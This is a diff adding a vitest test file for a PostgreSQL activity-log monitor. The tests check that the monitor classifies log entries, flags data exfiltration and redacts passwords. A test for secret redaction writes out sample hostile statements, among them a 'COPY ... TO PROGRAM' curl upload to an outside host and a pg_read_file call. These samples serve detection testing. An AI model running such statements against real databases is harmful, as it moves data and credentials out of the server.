@@ -1,0 +1,177 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { gzipSync } from 'node:zlib';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { loadModule } from 'libpg-query';
+import { newEntryStats, openLogInput, readEntries, type LogFormat } from '../../src/activity/entries.js';
+import { ActivityMonitor, type ActivityEvent } from '../../src/activity/monitor.js';
+import type { ActivityConfig } from '../../src/activity/rules.js';
+import { USE_CASES } from '../../src/activity/use-cases.js';
+import { SCENARIO_SECRET } from '../../src/sandbox/activity-scenario.js';
+import { MAX_LINE_BYTES } from '../../src/activity/lines.js';
+
+const dir = mkdtempSync(join(tmpdir(), 'dbsec-activity-'));
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+beforeAll(() => loadModule());
+
+const FIXTURES = new URL('../../fixtures/logs/activity/', import.meta.url).pathname;
+/** What the scenario's config tells dbsec: its view, its sensitive table, and who may read it. */
+const SCENARIO_CONFIG: ActivityConfig = { views: ['act_customer_emails'], sensitiveTables: ['act_customers'] };
+const PREFIX = '%t:%r:%u@%d:[%p]:';
+
+export async function classifyLog(path: string, config: ActivityConfig = SCENARIO_CONFIG, format: LogFormat | 'auto' = 'auto', prefix = PREFIX) {
+  const events: ActivityEvent[] = [];
+  const monitor = new ActivityMonitor({ config, onEvent: (e) => events.push(e) });
+  const stats = newEntryStats();
+  for await (const entry of readEntries((await openLogInput(path)) as AsyncIterable<Buffer>, format, prefix, stats)) monitor.handle(entry);
+  return { events, summary: monitor.summary, stats };
+}
+
+describe.each([
+  ['activity-stderr-pg18.log', 'stderr', 'log_statement'],
+  ['activity-pg15.csv', 'csvlog', 'log_statement'],
+  ['activity-pg15.json', 'jsonlog', 'log_statement'],
+  ['activity-pgaudit-pg15.log', 'stderr', 'pgaudit'],
+])('the recorded scenario in %s', (file, format, source) => {
+  it(`is read as ${format} (detected) and every use case of seed 000 is found`, async () => {
+    const { events, stats } = await classifyLog(join(FIXTURES, file));
+    expect(stats.format).toBe(format);
+    expect(stats.skipped).toBe(0);
+    const found = new Set(events.map((e) => e.useCase));
+    expect([...USE_CASES.filter((u) => u !== 'unparsed')].filter((u) => !found.has(u))).toEqual([]);
+    expect(events.some((e) => e.source === source)).toBe(true);
+  });
+
+  it('names who, what and which objects, with the default alert of each use case', async () => {
+    const { events } = await classifyLog(join(FIXTURES, file));
+    const drop = events.find((e) => e.command === 'DROP TABLE' && e.objects.includes('act_copy'))!;
+    expect(drop).toMatchObject({ useCase: 'drop-table', user: 'postgres', database: 'postgres', objects: ['act_copy', 'act_staging'], alert: { status: 'investigate', rule: 'activity.drop-table' } });
+    expect(drop.time).toMatch(/^\d{4}-\d{2}-\d{2}T/);
+    expect(drop.pid).toBeGreaterThan(0);
+    expect(events.find((e) => e.command === 'ALTER TABLE' && e.notes.includes('DISABLE ROW LEVEL SECURITY'))!.alert).toEqual({ status: 'investigate', rule: 'activity.alter-table.high-risk' });
+    expect(events.find((e) => e.command === 'ALTER TABLE' && e.notes.includes('ADD COLUMN'))!.alert).toEqual({ status: 'monitor', rule: 'activity.alter-table' });
+    expect(events.find((e) => e.useCase === 'table-created')!.alert).toBeNull();
+    expect(events.find((e) => e.useCase === 'data-exfiltration' && e.user === 'app_user')).toMatchObject({ command: 'SELECT', objects: ['act_customers'] });
+    expect(events.find((e) => e.command === 'pg_dump')).toMatchObject({ useCase: 'data-exfiltration', application: 'pg_dump' });
+  });
+
+  it('joins the multi-line statements and never shows the scenario’s password', async () => {
+    const { events } = await classifyLog(join(FIXTURES, file));
+    expect(events.find((e) => e.command === 'CREATE TABLE' && e.objects.includes('act_customers'))!.statement).toContain('email text,\n  card text');
+    expect(JSON.stringify(events)).not.toContain(SCENARIO_SECRET);
+    expect(events.find((e) => e.useCase === 'user-created')!.statement).toMatch(/PASSWORD '\*\*\*'/);
+  });
+});
+
+describe('prepared statements', () => {
+  it('carry their DETAIL parameters, secrets redacted', async () => {
+    const { events } = await classifyLog(join(FIXTURES, 'activity-stderr-pg18.log'));
+    const call = events.find((e) => e.command === 'SELECT' && e.objects.includes('set_config'))!;
+    expect(call.statement).toBe('SELECT set_config($1, $2, false)');
+    expect(call.parameters).toMatch(/^\$1 = 'application_name', \$2 = 'conn password=\*\*\*/);
+  });
+});
+
+describe('damaged and hostile input is counted and skipped, never fatal', () => {
+  const line = (n: number, message: string) => `2026-11-22 10:00:${String(n).padStart(2, '0')} UTC:10.0.0.5(5000):mallory@app:[77]:LOG:  ${message}`;
+
+  it('skips garbage, binary and lines of another prefix, and keeps going', async () => {
+    const path = join(dir, 'mixed.log');
+    const garbage = Buffer.from([0x00, 0xff, 0xfe, 0x1b, 0x5b, 0x32, 0x4a, 0x0a]);
+    writeFileSync(path, Buffer.concat([Buffer.from(`${line(1, 'statement: DROP TABLE one')}\nthis is not a log line\n`), garbage, Buffer.from(`[123] 2026 LOG: other prefix\n${line(2, 'statement: DROP TABLE two')}\n`)]));
+    const { events, stats } = await classifyLog(path);
+    expect(events.map((e) => e.objects[0])).toEqual(['one', 'two']);
+    expect(stats.skipped).toBe(3);
+  });
+
+  it('cuts a huge line at the bound and still reads the next one', async () => {
+    const path = join(dir, 'huge.log');
+    writeFileSync(path, `${line(1, `statement: SELECT '${'x'.repeat(MAX_LINE_BYTES * 3)}'`)}\n${line(2, 'statement: TRUNCATE after_huge')}\n`);
+    const { events, stats } = await classifyLog(path);
+    expect(stats.truncated).toBe(1);
+    expect(events.map((e) => [e.useCase, e.objects[0]])).toEqual([
+      ['unparsed', undefined],
+      ['drop-table', 'after_huge'],
+    ]);
+  });
+
+  it('reports a statement cut short in the log as unparsed, with its redacted text', async () => {
+    const path = join(dir, 'cut.log');
+    writeFileSync(path, `${line(1, "statement: CREATE ROLE x LOGIN PASSWORD 'hunter2' VALID UNTIL '2027")}\n`);
+    const { events } = await classifyLog(path);
+    expect(events).toHaveLength(1);
+    expect(events[0]).toMatchObject({ useCase: 'unparsed', alert: null });
+    expect(events[0]!.statement).not.toContain('hunter2');
+  });
+
+  it('reads an empty file as nothing, and a gzip log like a plain one', async () => {
+    const empty = join(dir, 'empty.log');
+    writeFileSync(empty, '');
+    expect((await classifyLog(empty)).events).toEqual([]);
+    const gz = join(dir, 'scenario.log.gz');
+    writeFileSync(gz, gzipSync(readFileSync(join(FIXTURES, 'activity-stderr-pg18.log'))));
+    expect((await classifyLog(gz)).events.length).toBe((await classifyLog(join(FIXTURES, 'activity-stderr-pg18.log'))).events.length);
+  });
+
+  it('fails a corrupt gzip with the reason', async () => {
+    const gz = join(dir, 'corrupt.log.gz');
+    writeFileSync(gz, gzipSync(readFileSync(join(FIXTURES, 'activity-stderr-pg18.log'))).subarray(0, 400));
+    await expect(classifyLog(gz)).rejects.toThrow(/unexpected end of file/);
+  });
+
+  it('skips broken csvlog rows and jsonlog objects', async () => {
+    const csv = join(dir, 'broken.csv');
+    const rows = readFileSync(join(FIXTURES, 'activity-pg15.csv'), 'utf8').split('\n');
+    writeFileSync(csv, [rows[0], '2026-11-22 10:00:00.000 UTC,"x', ...rows.slice(1)].join('\n'));
+    const fromCsv = await classifyLog(csv);
+    expect(fromCsv.events.length).toBeGreaterThan(20);
+    const json = join(dir, 'broken.json');
+    writeFileSync(json, `${readFileSync(join(FIXTURES, 'activity-pg15.json'), 'utf8')}{"timestamp": "2026-11-22 10:00:00 UTC", "message": \n["not", "an", "entry"]\n`);
+    const fromJson = await classifyLog(json);
+    expect(fromJson.stats.skipped).toBe(2);
+    expect(fromJson.events.length).toBe((await classifyLog(join(FIXTURES, 'activity-pg15.json'))).events.length);
+  });
+
+  it('finds secrets wherever they sit: statement, parameters, application name, connection strings', async () => {
+    const path = join(dir, 'secrets.log');
+    writeFileSync(
+      path,
+      [
+        line(1, "statement: ALTER ROLE app ENCRYPTED PASSWORD 'p1-secret'"),
+        line(2, 'execute S_1: ALTER ROLE app PASSWORD $1'),
+        `2026-11-22 10:00:02 UTC:10.0.0.5(5000):mallory@app:[77]:DETAIL:  Parameters: $1 = 'p2-secret'`,
+        line(3, "statement: SELECT dblink_connect('host=db user=x password=p3-secret')"),
+        line(4, "statement: COPY t TO PROGRAM 'curl https://admin:p4-secret@x/upload'"),
+        line(5, "statement: SELECT 'postgres://u:p5-secret@db/x'::text, pg_read_file('x')"),
+      ].join('\n'),
+    );
+    const { events } = await classifyLog(path);
+    expect(events.map((e) => e.useCase)).toEqual(['function-execution', 'data-exfiltration', 'data-exfiltration']);
+    const text = JSON.stringify(events);
+    for (const secret of ['p1-secret', 'p2-secret', 'p3-secret', 'p4-secret', 'p5-secret']) expect(text).not.toContain(secret);
+  });
+});
+
+describe('rules', () => {
+  it('let an allow-listed role alter tables in its window, and silence a use case', async () => {
+    const config: ActivityConfig = {
+      ...SCENARIO_CONFIG,
+      rules: { 'alter-table': { allow: [{ roles: ['postgres'], hours: '00:00-23:59' }] }, 'drop-table': { status: 'log' }, 'table-created': { status: 'monitor' } },
+      highRiskAlterTable: 'monitor',
+    };
+    const { events } = await classifyLog(join(FIXTURES, 'activity-stderr-pg18.log'), config);
+    expect(events.filter((e) => e.useCase === 'alter-table').map((e) => e.alert)).toEqual([null, null]);
+    expect(events.filter((e) => e.useCase === 'drop-table').every((e) => e.alert === null)).toBe(true);
+    expect(events.find((e) => e.useCase === 'table-created')!.alert).toEqual({ status: 'monitor', rule: 'activity.table-created' });
+  });
+
+  it('alert outside the allowed hours and for other roles', async () => {
+    const late: ActivityConfig = { rules: { 'alter-table': { allow: [{ roles: ['postgres'], hours: '02:00-02:01' }] } } };
+    const other: ActivityConfig = { rules: { 'alter-table': { allow: [{ roles: ['migrator'] }] } } };
+    for (const config of [late, other]) {
+      const { events } = await classifyLog(join(FIXTURES, 'activity-stderr-pg18.log'), config);
+      expect(events.filter((e) => e.useCase === 'alter-table').map((e) => e.alert?.status)).toEqual(['monitor', 'investigate']);
+    }
+  });
+});
